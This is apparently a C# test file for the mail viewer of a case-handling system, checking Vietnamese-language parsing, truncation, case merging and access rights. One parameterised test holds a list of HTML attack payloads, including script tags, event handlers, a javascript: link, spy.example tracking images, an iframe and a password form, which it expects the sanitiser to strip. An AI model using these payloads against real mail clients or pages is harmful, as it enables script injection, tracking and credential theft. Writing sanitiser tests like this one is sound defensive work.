using System.Net;
using System.Text;
using System.Text.Json.Nodes;

namespace ProcedureEngine.Host.Tests.Mail;

/// <summary>What an officer is shown of a received mail: all of its words, nothing that runs or tells the sender that it was opened.</summary>
[TestFixture(HostStore.Sqlite)]
[TestFixture(HostStore.Postgres)]
public sealed class MessageContentTests(HostStore store)
{
    private MailHost host = null!;

    [OneTimeSetUp]
    public async Task StartAsync() => host = await MailHost.StartAsync(store);

    [OneTimeTearDown]
    public async Task StopAsync() => await host.DisposeAsync();

    [Test]
    public async Task A_mail_is_read_with_its_words_addresses_and_files()
    {
        var caseId = (await host.PostAsync(MailHost.File("html-va-tep.eml"))).CaseId;

        var shown = await ContentAsync(caseId);

        var documents = await host.ItemsAsync($"/api/cases/{caseId}/documents");
        Assert.Multiple(() =>
        {
            Assert.That((string?)shown["subject"], Is.EqualTo("Yêu cầu thi hành án"));
            Assert.That(((string?)shown["from"]![0]!["name"], (string?)shown["from"]![0]!["address"]), Is.EqualTo(("Nguyễn Thị Lan", "lan@example.vn")));
            Assert.That((string?)shown["to"]![0]!["address"], Is.EqualTo(MailHost.Mailbox));
            Assert.That((string?)shown["date"], Is.EqualTo("2026-03-02T01:15:00Z"));
            Assert.That((string?)shown["text"], Does.Contain("thi hành bản án số 12/2026/DS-ST."));
            Assert.That((string?)shown["html"], Does.StartWith("<p>Tôi yêu cầu thi hành bản án.</p>").And.Not.Contain("script"));
            Assert.That(
                shown["attachments"]!.AsArray().Select(file => ((string?)file!["name"], (string?)file["documentId"])),
                Is.EqualTo(documents.OrderBy(d => (string?)d["name"], StringComparer.Ordinal).Select(d => ((string?)d["name"], (string?)d["id"]))));
            Assert.That(shown["oddities"]!.AsArray(), Is.Empty);
            Assert.That(((bool)shown["isCut"]!, (int)shown["filesLeftOut"]!, shown["automaticSign"]), Is.EqualTo((false, 0, (JsonNode?)null)));
        });
    }

    [TestCase("<script>steal()</script>", "steal", TestName = "a script")]
    [TestCase("<img src=x onerror=steal()>", "steal", TestName = "an event handler")]
    [TestCase("<svg onload=steal()><script>steal()</script></svg>", "steal", TestName = "a drawing with a script")]
    [TestCase("<a href=\"javascript:steal()\">x</a>", "javascript", TestName = "a link that runs")]
    [TestCase("<img src=\"https://spy.example/pixel.gif?lan\">", "spy.example", TestName = "a picture from elsewhere")]
    [TestCase("<div style=\"background-image:url(https://spy.example/p)\">x</div>", "spy.example", TestName = "a background from elsewhere")]
    [TestCase("<style>@import url(https://spy.example/s.css); *{position:fixed}</style>", "spy.example", TestName = "a style sheet")]
    [TestCase("<div style=\"position:fixed;top:0;left:0;z-index:9\">Giả mạo</div>", "position", TestName = "a style that covers the page")]
    [TestCase("<iframe src=\"https://spy.example/\"></iframe>", "spy.example", TestName = "a frame")]
    [TestCase("<form action=\"https://spy.example/\"><input name=password></form>", "spy.example", TestName = "a form that asks for a password")]
    [TestCase("<meta http-equiv=refresh content=\"0;url=https://spy.example/\">", "spy.example", TestName = "a page that leads away")]
    [TestCase("<link rel=stylesheet href=\"https://spy.example/s.css\">", "spy.example", TestName = "a linked style sheet")]
    public async Task Nothing_in_it_runs_loads_or_covers(string trick, string mark)
    {
        var raw = MailHost.Mail(body: $"<p>Tôi yêu cầu thi hành án.</p>{trick}<p>Hết thư.</p>", headers: ("Content-Type", "text/html; charset=utf-8"));

        var shown = await ContentAsync((await host.PostAsync(raw)).CaseId);

        Assert.Multiple(() =>
        {
            Assert.That((string?)shown["html"], Does.Contain("Tôi yêu cầu thi hành án.").And.Contain("Hết thư.").And.Not.Contain(mark));
            Assert.That((string?)shown["text"], Does.Contain("Tôi yêu cầu thi hành án.").And.Contain("Hết thư."));
        });
    }

    [Test]
    public async Task Letters_written_in_pieces_are_put_together_for_the_eye()
    {
        var pieces = "Nguyễn Thị Lan yêu cầu thi hành án".Normalize(NormalizationForm.FormD);
        var raw = MailHost.Mail(body: pieces, headers: ("Subject", $"=?UTF-8?B?{Convert.ToBase64String(Encoding.UTF8.GetBytes(pieces))}?="));

        var shown = await ContentAsync((await host.PostAsync(raw)).CaseId);

        Assert.That(((string?)shown["subject"], ((string?)shown["text"])!.TrimEnd()), Is.EqualTo(("Nguyễn Thị Lan yêu cầu thi hành án", "Nguyễn Thị Lan yêu cầu thi hành án")));
    }

    [Test]
    public async Task What_is_odd_about_it_is_told_in_words()
    {
        var answer = await host.PostAsync(MailHost.Mail(headers: [("Date", "hôm qua"), ("Message-ID", "")]));

        var oddities = (await ContentAsync(answer.CaseId))["oddities"]!.AsArray();

        Assert.That(oddities.Select(odd => (string?)odd!["label"]!["vi"]), Is.SupersetOf(new[] { "Ngày gửi không đọc được", "Không có mã thư (Message-ID)" }));
    }

    [Test]
    public async Task A_mail_longer_than_one_looks_through_is_cut_and_says_so()
    {
        var shown = await ContentAsync((await host.PostAsync(MailHost.Mail(body: string.Concat(Enumerable.Repeat("Tôi yêu cầu thi hành án.\r\n", 30_000))))).CaseId);

        Assert.That(((bool)shown["isCut"]!, ((string)shown["text"]!).Length), Is.EqualTo((true, 500_000)));
    }

    [Test]
    public async Task The_mail_of_a_merged_case_is_read_in_the_one_that_goes_on()
    {
        var (merged, remaining) = (await host.PostAsync(MailHost.File("html-va-tep.eml")), await host.PostAsync(MailHost.Mail()));
        var message = await ReceivedAsync(merged.CaseId);
        await host.SendAsync($"/api/cases/{merged.CaseId}/merge", new { into = remaining.CaseId, reason = "Gửi hai lần" });

        var shown = await host.GetAsync($"/api/cases/{remaining.CaseId}/messages/{message}/content");

        Assert.That((string?)shown["subject"], Is.EqualTo("Yêu cầu thi hành án"));
        Assert.That(shown["attachments"]!.AsArray().Select(file => (string?)file!["documentId"]), Is.All.Not.Null);
    }

    [TestCase("intake-officer@namdinh", HttpStatusCode.OK, TestName = "who works on it")]
    [TestCase("supervisor@namdinh", HttpStatusCode.OK, TestName = "who watches over it")]
    [TestCase("intake-officer@hanoi", HttpStatusCode.NotFound, TestName = "another office")]
    [TestCase("head@hanoi", HttpStatusCode.NotFound, TestName = "another office's head")]
    public async Task It_is_read_by_who_sees_the_case(string user, HttpStatusCode expected)
    {
        var caseId = (await host.PostAsync(MailHost.Mail())).CaseId;
        var message = await ReceivedAsync(caseId);

        using var answer = await (await host.PersonAsync(user)).GetAsync($"/api/cases/{caseId}/messages/{message}/content");

        Assert.That(answer.StatusCode, Is.EqualTo(expected));
    }

    [Test]
    public async Task Another_case_s_mail_and_our_own_letters_are_not_there()
    {
        var (one, other) = ((await host.PostAsync(MailHost.Mail())).CaseId, (await host.PostAsync(MailHost.Mail())).CaseId);
        var letter = (string)(await host.LettersAsync(one, 1, m => (string?)m["state"] == "sent")).Single()["id"]!;
        var officer = await host.PersonAsync("intake-officer@namdinh");
        foreach (var id in new[] { await ReceivedAsync(other), letter, "nothing" })
        {
            using var answer = await officer.GetAsync($"/api/cases/{one}/messages/{id}/content");
            Assert.That(answer.StatusCode, Is.EqualTo(HttpStatusCode.NotFound), id);
        }
    }

    private async Task<JsonNode> ContentAsync(string caseId) => await host.GetAsync($"/api/cases/{caseId}/messages/{await ReceivedAsync(caseId)}/content");

    private async Task<string> ReceivedAsync(string caseId) => (string)(await host.ItemsAsync($"/api/cases/{caseId}/messages")).Single(m => (string?)m["direction"] == "in")["id"]!;
}
